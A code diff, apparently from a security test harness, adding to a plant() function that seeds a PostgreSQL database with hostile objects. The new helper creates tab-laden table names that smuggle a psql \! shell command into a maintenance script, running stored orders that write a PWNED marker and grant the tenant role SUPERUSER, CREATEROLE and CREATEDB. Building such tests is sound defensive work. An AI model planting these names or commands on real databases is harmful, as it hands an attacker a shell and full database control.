@@ -71,9 +71,28 @@ END $fn$;
 """
 
 
+def _meta_command_tables(database: str, role: str, admin: str) -> list[str]:
+    """Table names for psql: a tab, then a name that is a meta-command once a tab has split a
+    script's list of names and left a quote open; the shell it starts (on the server's
+    container, where local logins are trusted) reads its orders from a table."""
+    runner = f"b\\! psql -d {database} -Atc'table public.c'|sh #"
+    assert len(runner.encode()) <= 63, runner
+    orders = (
+        f"touch {PWNED}-meta-command; "
+        f"psql -U {admin} -d postgres -c 'ALTER ROLE {role} SUPERUSER CREATEROLE CREATEDB'"
+    )
+    return [
+        'CREATE TABLE public."a\t" (i int)',
+        f'CREATE TABLE public."{runner}" (i int)',
+        "CREATE TABLE public.c (orders text)",
+        "INSERT INTO public.c VALUES (" + "'" + orders.replace("'", "''") + "')",
+    ]
+
+
 def plant(url: str, role: str, admin: str = "dbadmin") -> None:
     """Plants every vector in the database the URL (a project's own) logs in to, with rows in
     each table; the tenant's role, ``role``, is what its function tries to escalate."""
+    database = url.split("?")[0].rsplit("/", 1)[1]
     statements = [
         _evil_function(role, admin),
         # Index expressions and generated columns need an immutable function: a lie it may tell.
@@ -92,6 +111,7 @@ def plant(url: str, role: str, admin: str = "dbadmin") -> None:
         "CREATE TABLE v_generated"
         " (id int, g int GENERATED ALWAYS AS (public.evil_generated(id)) STORED)",
         "CREATE VIEW v_view AS SELECT public.evil('view') AS x",
+        *_meta_command_tables(database, role, admin),
     ]
     with psycopg.connect(url, autocommit=True, connect_timeout=5) as conn:
         for statement in statements:
